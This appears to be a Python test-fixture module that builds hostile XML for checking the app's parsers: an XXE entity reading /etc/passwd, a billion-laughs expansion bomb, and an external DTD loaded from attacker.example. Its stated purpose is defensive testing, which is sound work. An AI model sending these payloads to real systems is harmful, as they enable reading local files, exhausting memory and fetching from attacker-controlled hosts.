"""Hostile XML, written once: an external entity (XXE), entity expansion (billion laughs) and an
external DTD. Every parser the app exposes (SOAP answers, pushed notifications, the simulator,
spreadsheets) must refuse them without reading a file, fetching a URL or expanding gigabytes."""

from __future__ import annotations

SOAP_ENV = "http://schemas.xmlsoap.org/soap/envelope/"
DECLARATION = '<?xml version="1.0"?>'
LAUGH = "&lol9;"  # the last entity of ``laughs_doctype()``: 10**9 times "lol"


def xxe_doctype(target: str = "file:///etc/passwd", root: str = "x") -> str:
    """A DOCTYPE declaring ``&xxe;`` as the contents of ``target`` (a local file by default)."""
    return f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{target}">]>'


def laughs_doctype(root: str = "lolz") -> str:
    """A DOCTYPE whose ``&lol9;`` expands to 10**9 times "lol" (each level ten of the last)."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return f"<!DOCTYPE {root} [{''.join(entities)}]>"


def soap_with(doctype: str, body: str) -> bytes:
    """A SOAP envelope carrying ``body`` after ``doctype``."""
    return (f'{DECLARATION}{doctype}<soap:Envelope xmlns:soap="{SOAP_ENV}"><soap:Body>{body}'
            "</soap:Body></soap:Envelope>").encode()


XXE = soap_with(xxe_doctype(), "<x>&xxe;</x>")
BILLION_LAUGHS = soap_with(laughs_doctype(), f"<x>{LAUGH}</x>")
EXTERNAL_DTD = (f'{DECLARATION}<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>').encode()
